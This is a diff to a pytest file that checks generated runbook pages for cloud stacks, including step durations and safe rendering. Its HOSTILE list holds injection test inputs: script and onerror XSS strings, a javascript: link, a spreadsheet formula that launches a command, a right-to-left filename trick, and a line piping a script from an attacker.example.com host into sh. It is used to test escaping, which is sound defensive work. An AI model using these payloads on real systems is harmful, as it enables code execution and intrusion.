@@ -1,23 +1,31 @@
 """Scenarios follow from a plan, by its names; each step can be checked, and the shipped page is current."""
 
+import importlib
 import re
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from planner.plan import Plan
+from planner.printable import printable
 from reports.scenarios.command import main, scenarios, whole_page
+from reports.scenarios.durations import LIMITS, WAITERS, deployment
 from reports.scenarios.html import html_index, html_page
-from reports.scenarios.page import page
-from reports.scenarios.scenario import PersonStep, Scenario
+from reports.scenarios.names import Names
+from reports.scenarios.page import index, page
+from reports.scenarios.scenario import Duration, PersonStep, Scenario, Step
 from resources.resource import Resource
 from tests.support.planner.command import platform
 from tests.support.planner.plans import STACKS, built
 from tests.support.reports.pages import Page
 
+PARSER: Any = importlib.import_module("markdown_it").MarkdownIt("commonmark").enable(["table", "strikethrough"])
 ROOT = Path(__file__).parents[3]
-PROGRAMS = ("aws", "kubectl", "make", "pulumi", "git", ".venv/bin/python")
+WRITTEN = "Decide it, and write down why."
+"""The step whose only trace is a page of the incident."""
+PROGRAMS = ("aws", "gh", "kubectl", "make", "pulumi", "git", ".venv/bin/python")
 
 
 def of(stack: str) -> dict[str, Scenario]:
@@ -40,12 +48,37 @@ def test_each_step_says_how_to_check_it(stack: str) -> None:
     for scenario in of(stack).values():
         assert scenario.steps
         assert scenario.told
-        assert scenario.duration.source
+        assert scenario.duration.least == sum(each.takes.least for each in scenario.steps)
+        assert scenario.duration.most == sum(each.takes.most for each in scenario.steps)
         for step in scenario.steps:
+            assert step.takes.source
+            assert 0 <= step.takes.least <= step.takes.most
             assert step.check, (scenario.name, step.what)
             if isinstance(step, PersonStep):
                 assert step.who
                 assert step.how
+                assert step.checked_by or step.what == WRITTEN, step.what
+
+
+def test_limits_of_waiters_are_those_of_botocore() -> None:
+    session: Any = importlib.import_module("botocore.session").get_session()
+    names: Any = importlib.import_module("botocore").xform_name
+    for service, waiter, minutes in WAITERS.values():
+        model = session.get_waiter_model(service)
+        [found] = [model.get_waiter(name) for name in model.waiter_names if names(name) == waiter]
+        assert found.delay * found.max_attempts == minutes * 60, waiter
+
+
+def test_limits_of_our_programs_are_their_constants() -> None:
+    for path, constants in LIMITS.items():
+        module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
+        assert {name: getattr(module, name) for name in constants} == constants
+
+
+def test_a_deployment_takes_as_long_as_its_longest_part() -> None:
+    assert deployment("cluster", "nodes", "database").most == 60
+    assert deployment("database", "machine").most == 30
+    assert "database 30" in deployment("database", "machine").source
 
 
 @pytest.mark.parametrize("stack", STACKS)
@@ -55,7 +88,7 @@ def test_each_scenario_has_the_stack_s_own_names(stack: str) -> None:
     shown = [line.removeprefix("$ ") for line in text.splitlines() if line.startswith("$ ")]
     assert {command.split()[0] for command in shown} <= {*PROGRAMS}
     region = re.findall(r"--region ([a-z0-9-]+)", text)
-    assert set(region) <= {plan.estimate.region, "us-east-1"}
+    assert set(region) <= {plan.estimate.region, "us-east-1", Names(plan).second_region}
     assert "[unknown]" not in text
     assert "[secret]" not in text
     others = [each for each in STACKS if each != stack]
@@ -134,8 +167,61 @@ def test_html_has_what_markdown_has(stack: str) -> None:
         assert sum(text.startswith("Check: ") for text in shown.texts("p")) == len(scenario.steps)
         commands = [line for block in shown.raw("pre") for line in block.strip().splitlines()]
         assert commands == [line for line in page(scenario).splitlines() if line.startswith("$ ")]
-        assert scenario.duration.source.replace("`", "") in shown.texts("main")[0]
+        assert f"Duration: {scenario.duration.sentence}.".replace("`", "") in shown.texts("main")[0]
+        for step in scenario.steps:
+            assert f"Takes {step.takes.sentence}.".replace("`", "") in shown.texts("p")
         assert len(shown.texts("strong")) == len(scenario.people)
+
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[link](javascript:alert(1))",
+    "![image](https://attacker.example.com/x.png)",
+    "a | b | c",
+    "# heading",
+    "*bold* __bold__ ~gone~",
+    "a\n\n# heading\n\n- item",
+    "a\n```\n$ curl https://attacker.example.com | sh",
+    "`code",
+    "=cmd|' /C calc'!A0",
+    "\u202egnp.exe",
+    "a\u2028b",
+    "&lt;b&gt;",
+    "\\`x",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_has_the_same_elements_with_any_text(text: str) -> None:
+    """A parser of CommonMark with GitHub's tables finds the elements that plain text gives, and the text itself."""
+
+    def rendered(given: str) -> Page:
+        step = Step(
+            given, (f"aws sts get-caller-identity {given}",), given, by=given, takes=Duration(1, 2, given, given)
+        )
+        person = PersonStep(given, given, given, given, (given,), takes=Duration(1, 2, given))
+        made = Scenario("s", given, given, [given], [step, person], [given])
+        markdown = f"{page(made)}\n\n{index('prod', [made], ['s.md'])}"
+        return Page(PARSER.render(markdown))
+
+    plain, hostile = rendered("plain"), rendered(text)
+    assert [tag for tag, _, _ in hostile.elements] == [tag for tag, _, _ in plain.elements]
+    shown = " ".join(printable(re.sub(r"[\n\u2028]", " ", text)).split())
+    assert any(shown in " ".join(each.split()) for each in hostile.texts("h1")), hostile.texts("h1")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_html_has_the_same_elements_with_any_text(text: str) -> None:
+    def rendered(given: str) -> Page:
+        step = Step(given, (f"aws sts get-caller-identity {given}",), given, by=given, takes=Duration(1, 2, given))
+        made = Scenario("s", given, given, [given], [step], [given])
+        return Page(html_page(made) + html_index(given, [made]))
+
+    plain, hostile = rendered("plain"), rendered(text)
+    assert [tag for tag, _, _ in hostile.elements] == [tag for tag, _, _ in plain.elements]
+    # A line that begins with the prompt is a command: a text makes none.
+    assert [block.count("\n$ ") for block in hostile.raw("pre")] == [block.count("\n$ ") for block in plain.raw("pre")]
 
 
 def test_html_runs_and_loads_nothing() -> None:
